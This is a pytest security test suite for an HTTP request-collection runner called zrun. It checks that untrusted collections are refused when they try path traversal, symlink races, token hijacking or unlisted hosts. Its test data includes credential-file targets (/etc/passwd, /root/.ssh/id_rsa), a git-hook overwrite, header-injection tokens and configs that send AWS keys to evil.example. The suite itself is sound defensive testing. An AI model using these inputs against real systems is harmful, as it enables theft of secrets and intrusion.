"""What somebody else's collection cannot reach: files outside of its project, private ones in it, commands, other hosts."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

import pytest

from runner.errors import InputError, OutsideError
from runner.files import keys
from runner.files.flights import Flights
from runner.files.published import Published
from runner.files.refresh_tokens import RefreshTokens
from runner.files.state import State
from runner.project import Project, root_of
from runner.values import Secret
from tests.commands import environment, write, zrun
from tests.servers import Server, raw_server

PRIVATE = "made-up private text of another folder"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project with private parts, and what lies beside it; the collection stands in `collections/`."""
    root = tmp_path / "project"
    for name in ("collections", "environments", "data", ".git/hooks", ".zrun/state", ".config"):
        (root / name).mkdir(parents=True)
    for name in (
        "../outside.txt",
        "environments/us.yaml",
        "environments/us.local.yaml",
        "data/us.local.yml",
        ".git/config",
        ".zrun/state/eu.json",
        ".env",
        "key.txt",
    ):
        (root / name).write_text(PRIVATE, "utf-8")
    (root / "environments/us.yaml").write_text("secrets: {key: {file: ../key.txt}}\n", "utf-8")
    (root / "environments/us.local.yaml").write_text("variables: {a: b}\n", "utf-8")
    (root / "data/fine.txt").write_text("a fine text", "utf-8")
    (root / "data/link.txt").symlink_to("../../outside.txt")
    (root / "data/linked").symlink_to("../..")
    (root / "data/inside.txt").symlink_to("fine.txt")
    (root / "data/hidden").symlink_to("../.git")
    (root / "data/device").symlink_to("/dev/zero")
    os.mkfifo(root / "data/pipe")
    os.link(root / "key.txt", root / "data/same-as-key.txt")
    return root


READ = {
    "absolute": "/etc/passwd",
    "above": "../../outside.txt",
    "above by a detour": "../data/../../outside.txt",
    "a link": "../data/link.txt",
    "a linked folder": "../data/linked/outside.txt",
    "a device": "/dev/zero",
    "a link to a device": "../data/device",
    "of a process": "/proc/self/environ",
    "private state": "../.zrun/state/eu.json",
    "git's": "../.git/config",
    "git's by a link": "../data/hidden/config",
    "git's by a detour": "../data/./../.git/config",
    "dotted": "../.env",
    "an environment": "../environments/us.yaml",
    "an overlay": "../environments/us.local.yaml",
    "an overlay elsewhere": "../data/us.local.yml",
    "a secret's file": "../key.txt",
    "a secret's file by another name": "../data/same-as-key.txt",
    "a pipe": "../data/pipe",
    "another's home": "/root/.ssh/id_rsa",
}


def run(root: Path, server: Server, request: str, *arguments: str, **variables: str) -> tuple[int, str]:
    text = f"requests:\n  a: {{post: {server.url}/echo, {request}}}\n"
    (root / "collections/c.yaml").write_text(text, "utf-8")
    done = zrun(root, "collections/c.yaml", "-e", "us", *arguments, **variables)
    return done.status, done.out + done.err


@pytest.mark.parametrize("way", ["file: {}", "multipart: {{a: {{file: {}}}}}", "file: <<name>>"])
@pytest.mark.parametrize("name", READ)
def test_no_file_is_read_that_is_not_the_collections(name: str, way: str, project: Path, server: Server) -> None:
    status, said = run(project, server, way.format(READ[name]), "--var", f"name={READ[name]}")
    assert status == 2, said
    assert not server.seen
    assert "collections/c.yaml:2:" in said or "us.yaml" in said
    assert PRIVATE not in said
    assert "hint" in said or "= " in said


@pytest.mark.parametrize("name", ["../data/fine.txt", "../data/inside.txt", "../data/../data/fine.txt"])
@pytest.mark.parametrize("way", ["file: {}", "multipart: {{a: {{file: {}}}}}", "file: <<name>>"])
def test_a_file_of_the_project_is_read(name: str, way: str, project: Path, server: Server) -> None:
    status, said = run(project, server, way.format(name), "--var", f"name={name}")
    assert status == 0, said
    assert b"a fine text" in server.bodies[0]


def test_the_file_of_secrets_is_not_the_collections(project: Path, server: Server) -> None:
    given = project / "data/given.txt"
    given.write_text('{"key": "made-up-given-secret"}')
    given.chmod(0o600)
    given.rename(given.with_suffix(".json"))
    status, said = run(project, server, "file: ../data/given.json", "--secrets-file", "data/given.json")
    assert status == 2, said
    assert "takes a secret from it" in said
    assert not server.seen


def test_a_tilde_is_a_name_like_any_other(project: Path, server: Server) -> None:
    (project / "home").mkdir()
    (project / "home/x").write_text(PRIVATE)
    assert run(project, server, "file: ~/x", HOME=str(project / "home"))[0] == 2
    assert not server.seen


WRITTEN = {
    "absolute": "/tmp/zrun-made-up-file",
    "above": "../../new.txt",
    "by a linked folder": "../data/linked/new.txt",
    "over what a link leads to": "../data/link.txt",
    "over the collection": "c.yaml",
    "beside the collection": "d.txt",
    "an environment": "../environments/eu.yaml",
    "a hook": "../.git/hooks/pre-commit",
    "a hook by a link": "../data/hidden/hooks/pre-commit",
    "private state": "../.zrun/state/jp.json",
    "another collection": "../data/d.yaml",
    "a device": "/dev/null",
    "git's attributes": "../.gitattributes",
}


def everything(folder: Path) -> dict[str, bytes]:
    """Every regular file below `folder`, less the state of this run, with its content."""
    files = (path for path in folder.rglob("*") if path.is_file() and not path.is_symlink())
    return {str(path): path.read_bytes() for path in files if path.name not in ("us.lock", "c.yaml", ".gitignore")}


@pytest.mark.parametrize("way", ["{}", "<<name>>"])
@pytest.mark.parametrize("name", WRITTEN)
def test_no_file_is_written_that_is_not_the_collections(name: str, way: str, project: Path, server: Server) -> None:
    before = everything(project.parent)
    request = f"response: {{save: {way.format(WRITTEN[name])}}}"
    status, said = run(project, server, request, "--no-save", "--var", f"name={WRITTEN[name]}")
    assert status == 2, said
    assert not server.seen
    assert everything(project.parent) == before
    assert "collections/c.yaml:2:" in said
    assert not Path("/tmp/zrun-made-up-file").exists()


def test_a_file_of_the_project_is_written_and_again(project: Path, server: Server) -> None:
    for _ in range(2):
        status, said = run(project, server, "response: {save: ../data/new/out.json}, text: x")
        assert status == 0, said
    assert json.loads((project / "data/new/out.json").read_text())["body"] == "x"
    assert [path.name for path in (project / "data/new").iterdir()] == ["out.json"]


def test_a_name_beside_the_collection_is_refused_with_one_that_works(project: Path, server: Server) -> None:
    status, said = run(project, server, "response: {save: out/x.json}")
    assert status == 2
    assert "as `../out/NAME`: names are relative to the file that holds them" in said
    status, said = run(project, server, "response: {save: ../out/x.json}")
    assert status == 0, said
    assert (project / "out/x.json").is_file()


def test_what_the_user_allows_is_allowed_and_nothing_more(project: Path, server: Server) -> None:
    more = project.parent / "more"
    (more / ".private").mkdir(parents=True)
    (more / "a.txt").write_text("a fine text")
    (more / ".private/a.txt").write_text(PRIVATE)
    allow = ("--allow-path", str(more))
    status, said = run(project, server, "file: ../../more/a.txt")
    assert status == 2
    assert "--allow-path" in said
    assert run(project, server, "file: ../../more/a.txt", *allow)[0] == 0
    assert run(project, server, "file: ../../more/.private/a.txt", *allow)[0] == 2
    assert run(project, server, "file: ../../outside.txt", *allow)[0] == 2
    assert run(project, server, "response: {save: ../../more/b.txt}", *allow)[0] == 0
    assert run(project, server, "file: ../data/fine.txt", "--allow-path", "nowhere")[0] == 2
    assert b"".join(server.bodies) == b"a fine text"


def test_a_path_known_only_at_run_time_is_refused_then(project: Path, server: Server) -> None:
    text = f"""\
requests:
  a: {{post: {server.url}/reflect, json: {{name: ../../outside.txt}}, capture: {{name: json $.name}}}}
  b: {{post: {server.url}/echo, file: <<name>>}}
  c: {{get: {server.url}/echo, response: {{save: <<name>>}}}}
  d: {{get: {server.url}/echo}}
"""
    (project / "collections/c.yaml").write_text(text, "utf-8")
    done = zrun(project, "collections/c.yaml", "--format", "json")
    assert done.status == 2, done.out
    assert done.steps() == {"a": "passed", "b": "failed", "c": "failed", "d": "passed"}
    assert server.paths() == ["/reflect", "/echo"]
    assert "outside of the project" in done.out
    assert (project.parent / "outside.txt").read_text() == PRIVATE


@pytest.mark.parametrize(
    "name", ["../../outside.yaml", "../data/linked/outside.yaml", "../environments/eu.yaml", "../.x/a.yaml"]
)
def test_no_file_is_included_that_is_not_the_collections(name: str, project: Path, server: Server) -> None:
    text = f"requests: {{x: {{get: {server.url}/echo}}}}\n"
    (project / ".x").mkdir()
    for path in (project.parent / "outside.yaml", project / "environments/eu.yaml", project / ".x/a.yaml"):
        path.write_text(text)
    (project / "data/more.yaml").write_text(text)
    collection = project / "collections/c.yaml"
    collection.write_text(f"include: [{name}]\n")
    done = zrun(project, "collections/c.yaml")
    assert done.status == 2
    assert "collections/c.yaml:1:11" in done.err
    assert "may not be read" in done.err
    assert not server.seen
    collection.write_text("include: [../data/more.yaml]\n")
    assert zrun(project, "collections/c.yaml").status == 0


def test_a_link_that_comes_later_is_not_followed(project: Path) -> None:
    """Files and folders become links to the outside and back while they are opened: never is the outside read or written."""
    reach = Project(root_of(project / "collections/c.yaml"))
    swapped, away = project / "data/swap", project / "data/away"
    swapped.mkdir()
    (swapped / "a.txt").write_text("fine")
    (project.parent / "a.txt").write_text(PRIVATE)
    over = threading.Event()

    def swap() -> None:
        while not over.is_set():
            swapped.rename(away)
            with suppress(OSError):  # a writer may have made the folder anew
                swapped.symlink_to(project.parent)
            with suppress(OSError):
                swapped.unlink()
            while away.exists():
                with suppress(OSError):
                    shutil.rmtree(swapped, ignore_errors=True)
                    away.rename(swapped)

    swapper = threading.Thread(target=swap)
    swapper.start()
    read = refused = 0
    try:
        until = time.monotonic() + 6
        while (read < 60 or refused < 30) and time.monotonic() < until:
            try:
                with reach.open(swapped / "a.txt", None) as file:
                    assert file.read() == b"fine"
                with reach.replacing(swapped / "b.txt", None) as file:
                    file.write(b"new")
                read += 1
            except (OutsideError, OSError):
                refused += 1
    finally:
        over.set()
        swapper.join()
    assert read, "it was never read: the test shows nothing"
    assert refused, "it was never refused: the test shows nothing"
    assert not (project.parent / "b.txt").exists()


TOKEN_ENV = """\
secrets: {{client-secret: {{env: MADE_UP}}}}
variables: {{client-id: made-up-client}}
oauth2: {{idp: {{grant: client_credentials, token-url: {url}/token}}}}
"""


@pytest.mark.parametrize("kind", ["new", "lock", "journal"])
def test_links_among_the_private_files_lead_nowhere(kind: str, tmp_path: Path, server: Server) -> None:
    root = tmp_path / "project"
    write(root, us__env=TOKEN_ENV.format(url=server.url))
    folder = root / ".zrun/tokens/us"
    folder.mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "kept.txt").write_text(PRIVATE)
    (folder / f"idp.{kind}").symlink_to("/dev/zero" if kind == "journal" else outside / "kept.txt")
    (root / ".zrun/.gitignore").symlink_to(outside / "made.txt")
    done = zrun(root, "token", "-e", "us", MADE_UP="made-up-client-secret")
    assert done.status == (2 if kind == "lock" else 0), done.err
    assert (outside / "kept.txt").read_text() == PRIVATE
    assert [path.name for path in outside.iterdir()] == ["kept.txt"]


@pytest.mark.parametrize("made", [".zrun/tokens/us/idp.lock", ".zrun/state/us.lock"])
def test_a_lock_that_is_a_link_makes_no_file(made: str, tmp_path: Path, server: Server) -> None:
    root = write(tmp_path / "project", us__env=TOKEN_ENV.format(url=server.url))
    (root / made).parent.mkdir(parents=True)
    (root / made).symlink_to(tmp_path / "made.txt")
    done = zrun(root, "token", "-e", "us", MADE_UP="made-up-client-secret")
    assert done.status == 2, done.err
    assert not (tmp_path / "made.txt").exists()


@pytest.mark.parametrize("link", ["file", "folder", "device", "pipe"])
def test_no_key_count_or_document_is_read_through_a_link(link: str, tmp_path: Path) -> None:
    """A pipe would be waited for, a device read without end; a key elsewhere is not this project's to use."""
    root, outside = tmp_path / "project", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    state = State(root, "us")
    tokens, of_keys = root / ".zrun/tokens/us", root / ".zrun/oauth2/us"
    Published(state).write("https://idp.example", "{}", 1.0)
    assert Published(state).read("https://idp.example") == ("{}", 1.0)
    assert keys.key(state, "idp", lambda: b"made-up-key") == "made-up-key"
    with Flights(state).alone("idp") as flight:
        flight.note(1.0)
    client = RefreshTokens(state, "made-up-client", "idp.example")
    client.note(Secret("made-up-refresh", "refresh-token"), 1.0)
    assert (Flights(state).log("idp").issued(), client.made()) == ((1.0,), (1.0,))
    for number, folder in enumerate((tokens, of_keys, *(root / ".zrun/clients").iterdir())):
        away = outside / str(number)
        folder.rename(away)
        if link == "folder":
            folder.symlink_to(away)
            continue
        folder.mkdir()
        for path in away.iterdir():
            if link == "pipe":
                os.mkfifo(folder / path.name)
            else:
                (folder / path.name).symlink_to(path if link == "file" else "/dev/zero")
    assert Published(state).read("https://idp.example") is None
    assert (Flights(state).log("idp").issued(), client.made()) == ((), ())
    with pytest.raises(InputError, match="the key of `idp`"):
        keys.key(state, "idp", lambda: b"another-made-up-key")
    assert (outside / "1/idp.pem").read_bytes() == b"made-up-key"


@pytest.mark.parametrize("link", [".zrun/sandbox/zoho.sqlite", ".zrun/sandbox"])
def test_the_sandbox_keeps_nothing_through_a_link(link: str, tmp_path: Path) -> None:
    root, away = tmp_path / "project", tmp_path / "away"
    write(root, us__env="sandbox: zoho\n", c="requests: {a: {get: <<api-domain>>/crm/v8/org, expect: 401}}\n")
    assert zrun(root, "c.yaml", "-e", "us").status == 0
    (root / link).rename(away)
    (root / link).symlink_to(away)
    found = {path: path.read_bytes() for path in (away, *away.glob("*")) if path.is_file()}
    done = zrun(root, "c.yaml", "-e", "us")
    assert done.status == 2, done.out
    assert "a link" in done.err
    assert {path: path.read_bytes() for path in (away, *away.glob("*")) if path.is_file()} == found


TOKENS = '"access_token": "made-up-access", "refresh_token": "made-up-refresh"'


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        (f'{{{TOKENS}, "expires_in": 1{"0" * 400}}}', "application/json"),
        (f'{{{TOKENS}, "expires_in": Infinity}}', "application/json"),
        (f'{{{TOKENS}, "scope": "\\ud800"}}', "application/json"),
        (f"{{{TOKENS}}}", "application/json; charset=undefined"),
        (f"{{{TOKENS}}}", "application/json; charset=idna"),
    ],
    ids=["a number without end", "infinity", "half a character", "no charset", "a strict charset"],
)
def test_no_token_answer_costs_the_tokens(answer: str, kind: str, tmp_path: Path) -> None:
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(answer)}\r\n\r\n"
    with raw_server(head.encode() + answer.encode()) as url:
        write(tmp_path, us__env=TOKEN_ENV.format(url=url))
        for _ in range(2):  # the second reads what the first has kept
            done = zrun(tmp_path, "token", "-e", "us", MADE_UP="made-up-client-secret")
            assert (done.status, done.out) == (0, "made-up-access\n"), done.err
    assert "made-up-refresh" in (tmp_path / ".zrun/state/us.json").read_text("utf-8", "replace")


@pytest.mark.parametrize(
    "character", ["\\n", "\\r", "\\u0000", "\\u001b[2J", "\\u007f", "\\u0085", "\\u2028", "\\ud800"]
)
def test_a_token_that_is_none_by_its_characters_is_given_to_no_program(character: str, tmp_path: Path) -> None:
    """RFC 6749, appendix A.12: printable ASCII. A line break in one would be another line of a header, or of a script."""
    answer = f'{{"access_token": "made-up{character}Cookie: a=b", "refresh_token": "made-up-refresh"}}'
    head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(answer)}\r\n\r\n"
    with raw_server(head.encode() + answer.encode()) as url:
        write(tmp_path, us__env=TOKEN_ENV.format(url=url))
        for form in ("raw", "header", "env"):
            done = zrun(tmp_path, "token", "-e", "us", "--format", form, MADE_UP="made-up-client-secret")
            assert (done.status, done.out) == (2, ""), done
            assert "the access token of `idp` holds a character that no token may hold" in done.err
            assert "Cookie" not in done.err
        command = ("exec", "-e", "us", "--", "echo", "made-up-to-be-run")
        assert zrun(tmp_path, *command, MADE_UP="made-up-client-secret").out == ""
        done = zrun(tmp_path, "token", "-e", "us", "--format", "json", MADE_UP="made-up-client-secret")
        assert done.status == 0, done.err
        assert done.document["access_token"] == json.loads(answer)["access_token"]
        assert done.out.isascii()
    assert "made-up-refresh" in (tmp_path / ".zrun/state/us.json").read_text("utf-8", "replace")


@pytest.mark.parametrize("time_to_live", ["1" + "0" * 400, "Infinity", '"999999999999999d"', "NaN"])
def test_a_time_without_end_fails_its_capture_alone(time_to_live: str, tmp_path: Path) -> None:
    body = f'{{"x": "made-up", "e": {time_to_live}}}'
    with raw_server(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()) as url:
        capture = "{found: {from: json $.x, expires-in: json $.e}}"
        write(tmp_path, us__env="variables: {found: a}\n", c=f"requests: {{a: {{get: {url}/x, capture: {capture}}}}}\n")
        done = zrun(tmp_path, "c.yaml", "-e", "us")
    assert done.status == 1, done.err
    assert "is not a time" in done.out


@pytest.mark.parametrize(
    ("more", "path"),
    [("", "/token"), ("for-each: [1]", "/token"), ("", "/redirect/302?to=<<elsewhere>>")],
    ids=["at once", "for each", "by a redirect of a named host"],
)
def test_no_other_host_replaces_a_providers_tokens(more: str, path: str, tmp_path: Path, server: Server) -> None:
    write(tmp_path, us__env=TOKEN_ENV.format(url=server.url))
    assert zrun(tmp_path, "token", "-e", "us", MADE_UP="made-up-client-secret").status == 0
    kept = (tmp_path / ".zrun/state/us.json").read_text()
    with Server() as other:
        host = server.url if "redirect" in path else other.url
        captures = "{refresh-token: json $.refresh_token, access-token: json $.access_token}"
        request = f"    get: {host}{path.replace('<<elsewhere>>', f'{other.url}/token')}\n    capture: {captures}\n"
        write(tmp_path, c=f"requests:\n  a:\n{request}" + (f"    {more}\n" if more else ""))
        done = zrun(tmp_path, "c.yaml", "-e", "us", MADE_UP="made-up-client-secret")
        assert not other.seen
    assert done.status == (1 if "redirect" in path else 5), done.out + done.err
    assert zrun(tmp_path, "token", "-e", "us", MADE_UP="made-up-client-secret").status == 0
    assert (tmp_path / ".zrun/state/us.json").read_text() == kept


NAMED_TOO = TOKEN_ENV + "hosts: ['{other}', '*.named.localhost:{port}']\n"


@pytest.mark.parametrize(
    "request_",
    [
        "get: OTHER/token",
        "get: 'http://a.named.localhost:PORT/token'",
        "get: OWN/token, headers: {Host: '127.0.0.1:PORT'}",
        "get: OWN/token, headers: {Host: 'a.named.localhost:PORT'}",
        "get: OTHER/token, for-each: [1]",
    ],
    ids=["named exactly", "named by a pattern", "another site's port", "another site", "for each"],
)
def test_no_answer_of_another_named_host_replaces_a_providers_tokens(
    request_: str, tmp_path: Path, server: Server
) -> None:
    """An API that is named gives back what others have put there: a note with a text in it that looks like a token."""
    with Server() as other:
        at = other.url.removeprefix("http://")
        env = NAMED_TOO.format(url=server.url, other=at, port=other.port)
        write(tmp_path, us__env=env.replace("token-url", "token-prefix: idp, token-url"))
        assert zrun(tmp_path, "token", "-e", "us", MADE_UP="made-up-client-secret").status == 0
        kept, seen = (tmp_path / ".zrun/state/us.json").read_text(), len(server.seen)
        written = request_.replace("OTHER", other.url).replace("OWN", server.url).replace("PORT", str(other.port))
        for name in ("access", "refresh"):
            capture = f"capture: {{idp-{name}-token: json $.{name}_token}}"
            write(tmp_path, c=f"requests:\n  a: {{{written}, {capture}}}\n")
            done = zrun(tmp_path, "c.yaml", "-e", "us", MADE_UP="made-up-client-secret")
            assert done.status == 5, done.out + done.err
            assert f"`idp-{name}-token`, a token of `idp`, would be replaced by what" in done.err
            assert "c.yaml:2:" in done.err
            assert "capture into another name" in done.err
            assert not other.seen
            assert len(server.seen) == seen
        write(tmp_path, c=f"requests: {{a: {{{written}, capture: {{other-token: json $.access_token}}}}}}\n")
        assert zrun(tmp_path, "c.yaml", "-e", "us", MADE_UP="made-up-client-secret").status == 0
    assert (tmp_path / ".zrun/state/us.json").read_text() == kept
    write(
        tmp_path,
        c=f"requests: {{a: {{get: {server.url}/token, capture: {{idp-access-token: json $.access_token}}}}}}\n",
    )
    assert zrun(tmp_path, "c.yaml", "-e", "us", MADE_UP="made-up-client-secret").status == 0
    assert (tmp_path / ".zrun/state/us.json").read_text() != kept


def test_what_a_collection_captures_moves_no_token_endpoint(tmp_path: Path, server: Server) -> None:
    """Neither in the same run nor in a later one: only a login leads to another of Zoho's accounts servers."""
    with Server() as other:
        env = f"variables: {{accounts-domain: {server.url}}}\nhosts: ['{other.url.removeprefix('http://')}']\n"
        write(tmp_path, us__env=f"{env}oauth2: {{zoho: {{preset: zoho}}}}\n")
        move = f"{{post: {server.url}/reflect, text: '{other.url}', capture: {{accounts-domain: text}}}}"
        take = f"{{post: {other.url}/token, capture: {{refresh-token: json $.refresh_token}}}}"
        write(tmp_path, c=f"requests:\n  move: {move}\n  oauth2: {{requests: {{zoho: {take}}}}}\n")
        for selected in ((), ("-r", "oauth2/zoho", "--alone")):
            assert zrun(tmp_path, "c.yaml", "-e", "us", *selected).status == 5
            assert not other.seen
        write(tmp_path, c=f"requests:\n  move: {move}\n")
        assert zrun(tmp_path, "c.yaml", "-e", "us").status == 0
        write(tmp_path, c=f"requests:\n  take: {take}\n")
        assert zrun(tmp_path, "c.yaml", "-e", "us").status == 5
        assert not other.seen


@pytest.mark.parametrize("redirected", [False, True], ids=["at once", "by a redirect of a named host"])
def test_no_other_host_replaces_a_declared_secret(redirected: bool, tmp_path: Path, server: Server) -> None:
    env = f"variables: {{url: {server.url}}}\nsecrets: {{refresh-token: , key: {{env: MADE_UP}}}}\n"
    write(tmp_path, us__env=env)
    own = (
        "requests: {{a: {{get: {url}, capture: {{refresh-token: json $.refresh_token, key: json $.refresh_token}}}}}}\n"
    )
    write(tmp_path, c=own.format(url=f"{server.url}/redirect/302?to={server.url}/token"))
    assert zrun(tmp_path, "c.yaml", "-e", "us").status == 0
    kept = (tmp_path / ".zrun/state/us.json").read_text()
    with Server() as other:
        url = f"{server.url}/redirect/302?to={other.url}/token" if redirected else f"{other.url}/token"
        write(tmp_path, c=own.format(url=url))
        done = zrun(tmp_path, "c.yaml", "-e", "us")
        assert bool(other.seen) == redirected
        said = done.out + done.err
        assert done.status == 5, said
        assert "would be replaced by what a host gives that the environment does not name" in " ".join(said.split())
        assert f'hosts: ["{other.url.removeprefix("http://")}"]' in said
    assert (tmp_path / ".zrun/state/us.json").read_text() == kept


def test_the_project_is_the_folder_above_the_usual_ones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = Path(os.path.realpath(tmp_path))
    assert root_of(tmp_path / "collections/a/b.yaml") == root
    assert root_of(tmp_path / "environments/us.yaml") == root
    assert root_of(tmp_path / "collections/x/collections/b.yaml") == root / "collections/x"
    assert root_of(tmp_path / "a/b.yaml") == root / "a"
    assert root_of(Path("/collections/a.yaml")) == Path("/collections")
    monkeypatch.setenv("HOME", str(root))
    assert root_of(tmp_path / "collections/a.yaml") == root / "collections"


def test_an_environment_that_comes_along_does_not_stand_in_for_ones_own(tmp_path: Path, server: Server) -> None:
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    write(mine, us__env=f"variables: {{url: {server.url}}}\nsecrets: {{key: {{env: KEY}}}}\n")
    write(theirs, us__env="hosts: [evil.example]\nsecrets: {key: {env: AWS_SECRET_ACCESS_KEY}}\n")
    write(theirs / "collections", c=f"requests: {{a: {{get: {server.url}/echo, headers: {{X: <<key>>}}}}}}\n")
    done = zrun(mine, "../theirs/collections/c.yaml", "-e", "us", KEY="made-up-key")
    assert done.status == 2
    assert "which one you trust" in done.err
    assert not server.seen
    assert zrun(mine, "../theirs/collections/c.yaml", "-e", "environments/us.yaml", KEY="made-up-key").status == 0


def test_every_promise_names_a_test_that_is_there() -> None:
    tests = Path(__file__).parent
    promised = set(re.findall(r"`(test_\w+)", (tests.parent / "docs/security.md").read_text("utf-8")))
    written = {
        name
        for path in tests.rglob("test_*.py")
        for name in re.findall(r"^def (test_\w+)", path.read_text("utf-8"), re.M)
    }
    assert len(promised) > 10
    assert promised <= written, promised - written


# What a run does to the world, as Python's own audit events tell it.
_AUDITED = """
import json, sys
events = []
def hear(event, arguments):
    if event == "socket.connect":
        events.append(["connect", list(arguments[1])[:2]])
    elif event in ("socket.getaddrinfo", "socket.gethostbyname"):
        events.append(["resolve", arguments[0].decode() if isinstance(arguments[0], bytes) else arguments[0]])
    elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork"):
        events.append(["command", event])
    elif event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        events.append(["write", str(arguments[0])])
sys.addaudithook(hear)
from runner.cli import main
status = main(json.loads(sys.argv[1]))
print(json.dumps([status, events]), file=sys.stderr)
"""


def audited(folder: Path, *arguments: str, **variables: str) -> tuple[int, list[tuple[str, object]]]:
    done = subprocess.run(
        [sys.executable, "-c", _AUDITED, json.dumps(arguments)],
        cwd=folder,
        env=environment(**variables),
        capture_output=True,
        text=True,
        check=True,
    )
    status, events = json.loads(done.stderr.splitlines()[-1])
    return status, [(kind, what) for kind, what in events]


def test_a_run_contacts_the_hosts_that_its_plan_shows_and_no_other(tmp_path: Path, server: Server) -> None:
    with Server() as other:
        write(tmp_path, us__env=f"variables: {{url: {server.url}}}\nsecrets: {{key: {{env: KEY}}}}\n")
        (tmp_path / "up.txt").write_text("up")
        write(
            tmp_path,
            c=f"""\
requests:
  a: {{post: <<url>>/reflect, json: {{at: {other.url}}}, headers: {{X-Key: <<key>>}}, capture: {{at: json $.at}}}}
  b: {{post: '{other.url}/echo/<<$uuid>>', file: up.txt, response: {{save: out/x.json}}}}
  c: {{get: '{other.url}/echo?<<at>>'}}
""",
        )
        planned = json.loads(zrun(tmp_path, "plan", "c.yaml", "-e", "us", "--format", "json", KEY="made-up-key").out)
        hosts = {reach["host"] for reach in planned["reaches"]}
        assert hosts == {f"127.0.0.1:{server.port}", f"127.0.0.1:{other.port}"}
        assert [reach["secrets"] for reach in planned["reaches"]] == [["key"], [], []]
        assert planned["reaches"][1]["reads"] == ["up.txt"]
        assert planned["reaches"][1]["writes"] == ["out/x.json"]
        assert planned["secrets"] == {"key": ["$KEY"]}
        assert planned["secrets-may-go-to"] == [f"127.0.0.1:{server.port}"]
        assert planned["commands"] == []
        assert not server.seen
        assert not other.seen
        status, events = audited(tmp_path, "c.yaml", "-e", "us", KEY="made-up-key")
        assert status == 0
        connected = {f"{what[0]}:{what[1]}" for kind, what in events if kind == "connect" and isinstance(what, list)}
        assert connected == hosts
        assert {what for kind, what in events if kind == "resolve"} <= {"127.0.0.1"}
        assert not [what for kind, what in events if kind == "command"]


def test_a_refused_name_is_not_even_looked_up(tmp_path: Path) -> None:
    write(tmp_path, us__env='hosts: ["*.zohoapis.com"]\nsecrets: {key: {env: KEY}}\n')
    for url in ("https://<<key>>.evil.example/", "https://<<key>>.zohoapis.com/", "https://zohoapis.com.evil.example/"):
        write(tmp_path, c=f"requests: {{a: {{get: '{url}', headers: {{X: <<key>>}}}}}}\n")
        done = subprocess.run(
            [sys.executable, "-c", _AUDITED.replace("status = main", "status = 0; main"), '["c.yaml", "-e", "us"]'],
            cwd=tmp_path,
            env=environment(KEY="made-up-key"),
            capture_output=True,
            text=True,
            check=False,
        )
        assert '"resolve"' not in done.stderr
        assert '"connect"' not in done.stderr
        assert zrun(tmp_path, "c.yaml", "-e", "us", KEY="made-up-key").status == 5


def test_plan_shows_where_secrets_come_from_before_they_are_there(tmp_path: Path, server: Server) -> None:
    """An environment that comes with a collection is as foreign as it is: the plan shows what it would take, and for whom."""
    write(
        tmp_path,
        us__env='hosts: ["evil.example"]\nsecrets:\n  key: [{env: AWS_SECRET_ACCESS_KEY}, {file: /home/me/.ssh/id}]\n',
        c="requests: {a: {get: 'https://evil.example/', query: {k: <<key>>}}}\n",
    )
    done = zrun(tmp_path, "plan", "c.yaml", "-e", "us")
    assert done.status == 0
    assert "contacts evil.example with key" in done.out
    assert (
        "secret key from $AWS_SECRET_ACCESS_KEY, else the file /home/me/.ssh/id (environments/us.yaml:3:3)" in done.out
    )
    assert "secrets may go to evil.example" in done.out
    assert not server.seen
